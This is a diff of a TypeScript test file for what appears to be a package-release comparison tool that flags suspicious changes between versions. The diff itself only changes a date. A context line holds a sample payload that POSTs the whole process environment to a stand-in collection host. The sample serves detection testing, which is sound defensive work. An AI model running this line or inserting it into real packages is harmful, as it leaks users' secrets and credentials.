@@ -5,7 +5,7 @@ import { judgePair, type Judged } from './pair.js';
 
 type Files = { readonly [path: string]: string | Uint8Array };
 const judged = (files: Files, manifest: JsonObject = {}): Promise<Judged> => judgePair({
-  name: 'left', before: { version: '1.0.0', publishedAt: '2025-01-10T00:00:00.000Z', files: { 'index.js': 'module.exports = 1;\n' } },
+  name: 'left', before: { version: '1.0.0', publishedAt: '2026-07-10T00:00:00.000Z', files: { 'index.js': 'module.exports = 1;\n' } },
   after: { version: '1.0.1', publishedAt: '2026-11-20T00:00:00.000Z', manifest, files: { 'index.js': 'module.exports = 1;\n', ...files } },
 });
 const open = 'fetch("https://collect.example.invalid/", { method: "POST", body: JSON.stringify(process.env) });\n';
